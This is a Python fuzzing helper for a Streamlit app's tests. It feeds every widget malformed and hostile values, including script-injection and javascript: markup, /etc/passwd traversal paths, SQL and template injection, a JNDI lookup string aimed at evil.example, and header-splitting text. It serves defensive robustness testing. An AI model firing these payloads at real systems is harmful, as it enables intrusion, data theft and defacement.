"""What a browser can send that no widget of the app would."""

from collections.abc import Callable, Iterator

from streamlit.proto.WidgetStates_pb2 import WidgetState, WidgetStates
from streamlit.testing.v1 import AppTest

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)> [a](https://evil.example) **b**"
TEXTS = [
    *("", " ", "\x00", "0", "-1", "1e309", "Infinity", "NaN", "None", "true", "1" * 400, "#58"),
    *("99999999999999999999", "0x10", "1_0", "٣", "½", "²", "-0", "1,2,3", "1,1", "[]", "{}"),
    *("../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "..", "/", "~", "mini/../.."),
    *("https://evil.example/x", "www.evil.example", "a@evil.example", "//evil.example", "C:\\a"),
    *(MARKUP, "$\\href{javascript:alert(1)}{x}$", "![x](https://evil.example/a.png)", ":red[x]"),
    *("'; DROP TABLE a; --", "{{7*7}}", "%s%n", "${jndi:ldap://evil.example}", "%2e%2e%2f"),
    *("\u202e", "\ufeff", "\u2028", "a\u0300" * 300, "😀" * 3000, "\x1b[31m", "\ud7ff", "👩‍👩‍👧"),
    *("__proto__", "constructor", "\\", "\t", "\r\nX: y", "a\x7fb", "ﷺ" * 200, "İ" * 99, "٠" * 30),
    *(
        "Ⅷ",
        "1e-999",
        "+1",
        "1.5.2",
        "<!--",
        "</style><style>*{display:none}</style>",
        "&lt;",
        "~/..",
    ),
    *("a " * 800, "\n\n" * 700, "(" * 500, "[" * 500, "ab\n\n" * 300, "null", "<|endoftext|>"),
]
NUMBERS = [
    *(
        float("nan"),
        float("inf"),
        float("-inf"),
        1e308,
        -1e308,
        5e-324,
        -1.0,
        -0.0,
        0.5,
        1e9,
        2**53,
    ),
]
SELECTIONS = [
    *("", "null", "[]", "{}", "1", '"a"', "{", '{"selection": null}', '{"selection": []}'),
    *('{"selection": 1}', '{"selection": {"cell": 1, "head": 1, "token": 1}}', "[" * 5000),
    *(
        f'{{"selection": {{"cell": {marks}, "head": {marks}, "token": {marks}}}}}'
        for marks in (
            *("[1]", "[null]", "[[]]", "[{}]", '"x"', '{"a": 1}', '[{"i": "x", "j": []}]'),
            *('[{"i": 99999, "j": -5, "head": 99, "layer": 99, "position": 1e309}]',),
            *('[{"head": "x", "token_id": "x", "token_id_i": {}, "eta": "x", "where": 7}]',),
            *('[{"head": -1, "token_id": 1e30, "token_id_i": -1, "eta": NaN, "layer": "0"}]',),
            *('[{"head": NaN, "token_id": Infinity, "position": "a", "side": "<b>", "i": NaN}]',),
        )
    ),
    *(
        f'{{"selection": {{"rows": {rows}, "columns": {columns}, "cells": {cells}}}}}'
        for rows, columns, cells in (
            *(("[999999]", "[]", '[[999999, "head"]]'), ("[-1]", "[]", '[[-1, "shown"]]')),
            *(('["a"]', "[1]", '[["a", 1]]'), ("1", "1", "1"), ("[[]]", "[{}]", "[[]]")),
            *(("null", "null", "null"), ("[0]", '["x"]', '[[0, "<b>"]]'), ("[1e9]", "[]", "[[0]]")),
            *((("[0.5]", "[]", '[[0.5, "head 99"]]')), ("[0]", "[]", '[[0, {"a": []}]]')),
        )
    ),
]


def _with(field: str, value: object) -> Callable[[WidgetState], None]:
    def put(state: WidgetState) -> None:
        if field in ("double_array_value", "int_array_value", "string_array_value"):
            getattr(state, field).data.extend(value)
        elif field == "string_trigger_value":
            state.string_trigger_value.data = value
        elif field == "file_uploader_state_value":
            state.file_uploader_state_value.uploaded_file_info.add(file_id=value)
        else:
            setattr(state, field, value)

    return put


def values() -> Iterator[Callable[[WidgetState], None]]:
    """Each puts one value into the state of a widget, whatever widget it is."""
    yield lambda state: None
    for text in TEXTS:
        yield _with("string_value", text)
    for number in NUMBERS:
        yield _with("double_value", number)
        yield _with("double_array_value", [number])
    for selection in SELECTIONS:
        yield _with("string_value", selection)
    for data in ([], ["x"], ["0"], ["0", "0"], [MARKUP], ["-1", "99"], [""], ["1"] * 500):
        yield _with("string_array_value", data)
    for data in ([], [1.0, 2.0], [0.0] * 100):
        yield _with("double_array_value", data)
    for number in (-(2**63), 2**63 - 1, 0):
        yield _with("int_value", number)
        yield _with("int_array_value", [number])
    yield _with("bool_value", True)
    yield _with("bytes_value", b"\xff\x00")
    yield _with("json_value", "{")
    yield _with("json_value", "[1e999]")
    yield _with("json_trigger_value", "{}")
    yield _with("string_trigger_value", "x")
    yield _with("file_uploader_state_value", "../../etc/passwd")


def _widgets(test: AppTest) -> list[str]:
    return list(test._session_state._state._new_widget_state.widget_metadata)


def n_widgets(test: AppTest) -> int:
    return len(_widgets(test))


def send(test: AppTest, put: Callable[[WidgetState], None]) -> AppTest:
    """Runs the page again, as if all of its widgets had this value."""
    states = WidgetStates()
    for widget in _widgets(test):
        put(states.widgets.add(id=widget))
    return test._run(states)
